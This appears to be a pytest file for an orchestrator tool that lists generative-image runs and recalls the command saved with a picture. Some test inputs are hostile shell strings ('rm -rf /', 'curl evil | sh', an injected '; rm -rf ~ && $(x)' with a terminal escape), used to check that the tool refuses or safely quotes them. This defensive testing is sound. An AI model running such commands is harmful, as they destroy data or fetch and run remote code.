"""Runs are listed from their folders, whatever those hold."""

import json
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from orchestrator.cli import app
from orchestrator.runs import RunFolder
from orchestrator.runs.listing import recall, summaries, summary
from protocol.errors import BadRequestError, StorageError

SETTINGS = {"prompt": "a car", "algorithm": "ga", "generator": "mini", "generations": 9}


def make(root: Path, *bests: float, status: str = "done") -> RunFolder:
    folder = RunFolder.create(root, "a car")
    folder.write_settings({**SETTINGS, "command": "orchestrator run 'a car'"}, [{"role": "clip"}])
    for generation, best in enumerate(bests, 1):
        folder.append_event({"event": "generation", "generation": generation, "best": best})
    if status != "running":
        folder.finish(status, 0)  # type: ignore[arg-type] # one of them
    return folder


def test_runs_are_listed_with_how_they_went(tmp_path: Path) -> None:
    make(tmp_path, 0.1, 0.3, 0.2)
    living = make(tmp_path, 0.1, status="running")
    make(tmp_path, status="running")
    (tmp_path / "0009-broken").mkdir()
    (tmp_path / "0009-broken" / "run.json").write_text("{")
    (tmp_path / "notes").mkdir()
    with living.lock():
        found = summaries(tmp_path)
    assert [one.status for one in found] == ["done", "running", "killed", "damaged"]
    assert [one.best for one in found] == [0.3, 0.1, None, None]
    assert (found[0].generation, found[0].generations, found[0].prompt) == (3, 9, "a car")
    out = CliRunner().invoke(app, ["ls", str(tmp_path)]).output.splitlines()
    assert out[0].split() == ["RUN", "STATUS", "GENERATION", "BEST", "ALGORITHM", "TARGET"]
    assert len(out) == 5
    assert "3/9" in out[1]
    assert "0.300" in out[1]
    printed = json.loads(CliRunner().invoke(app, ["ls", str(tmp_path), "--json"]).output)
    assert [one["status"] for one in printed] == ["done", "killed", "killed", "damaged"]
    with pytest.raises(BadRequestError, match="no folder of runs"):
        summaries(tmp_path / "none")


@pytest.mark.parametrize(
    "entry",
    [{"settings": "x"}, {"settings": {"seed": "x"}}, {"services": ["a"]}, {"resumed": 5}],
    ids=str,
)
def test_a_run_that_says_nonsense_is_damaged(tmp_path: Path, entry: dict[str, object]) -> None:
    folder = make(tmp_path, 0.1)
    run = json.loads((folder.path / "run.json").read_text())
    (folder.path / "run.json").write_text(json.dumps({**run, **entry}))
    assert summary(folder.path).status == "damaged"
    for command in (["show"], ["watch", "--once", "--ui", "plain"]):
        with pytest.raises(BadRequestError, match="is damaged: Expected"):
            CliRunner().invoke(app, [*command, str(folder.path)], catch_exceptions=False)


def test_an_event_that_says_nonsense_is_left_out(tmp_path: Path) -> None:
    folder = make(tmp_path, 0.1)
    folder.append_event({"event": "generation", "generation": "x", "best": 0.9})
    assert [event["generation"] for event in folder.events()] == [1]


def test_paths_that_cannot_be_looked_at_are_refused_in_a_sentence() -> None:
    for look in (RunFolder.open, summaries):
        with pytest.raises(StorageError, match="file name too long"):
            look(Path("x" * 5_000))


def test_the_best_is_that_of_the_models_of_now(tmp_path: Path) -> None:
    folder = make(tmp_path, 0.9)
    folder.append_event({"event": "swap", "generation": 1, "role": "generator", "model": "other"})
    folder.append_event({"event": "generation", "generation": 2, "best": 0.4})
    assert summary(folder.path).best == 0.4
    shown = CliRunner().invoke(app, ["show", str(folder.path)]).output
    assert "swapped       generator for other after generation 1" in shown
    assert "command       orchestrator run 'a car'" in shown
    found = json.loads(CliRunner().invoke(app, ["show", str(folder.path), "--json"]).output)
    assert found["summary"]["generation"] == 2
    assert found["run"]["settings"]["prompt"] == "a car"


def test_a_run_that_has_no_prompt_is_called_by_its_pictures(tmp_path: Path) -> None:
    folder = RunFolder.create(tmp_path, "like photo.jpg")
    likes = ["/home/me/photo.jpg:0.5", "/home/me/other.png"]
    folder.write_settings({**SETTINGS, "prompt": "", "likes": likes, "refine": 5})
    found = summary(folder.path)
    assert found.prompt == "like photo.jpg | like other.png"
    assert found.generations == 9 + 1 + 5
    assert "like photo.jpg" in CliRunner().invoke(app, ["ls", str(tmp_path)]).output


def test_a_picture_gives_its_command_back(tmp_path: Path) -> None:
    folder = make(tmp_path, 0.9)
    image = np.zeros((4, 4, 3), np.uint8)
    recipe = {"command": "orchestrator run 'a \"car\"; rm x' --seed 1"}
    path = folder.save_picture("best", image, recipe)
    out = CliRunner().invoke(app, ["recall", str(path)]).output
    assert out.strip() == recipe["command"]
    assert json.loads(CliRunner().invoke(app, ["recall", str(path), "--json"]).output) == recipe


@pytest.mark.parametrize(
    "command", ["rm -rf /", "orchestrator down", "orchestrator run 'unclosed", "", "curl evil | sh"]
)
def test_a_picture_with_another_command_is_refused(tmp_path: Path, command: str) -> None:
    image = np.zeros((4, 4, 3), np.uint8)
    path = make(tmp_path).save_picture("best", image, {"command": command})
    with pytest.raises(BadRequestError, match="does not say which"):
        recall(path)


def test_a_command_cannot_carry_another_one_or_an_escape(tmp_path: Path) -> None:
    image = np.zeros((4, 4, 3), np.uint8)
    recipe = {"command": "orchestrator run a; rm -rf ~ && $(x) \x1b[2J"}
    command, _ = recall(make(tmp_path).save_picture("best", image, recipe))
    assert command == "orchestrator run 'a;' rm -rf '~' '&&' '$(x)' '?[2J'"
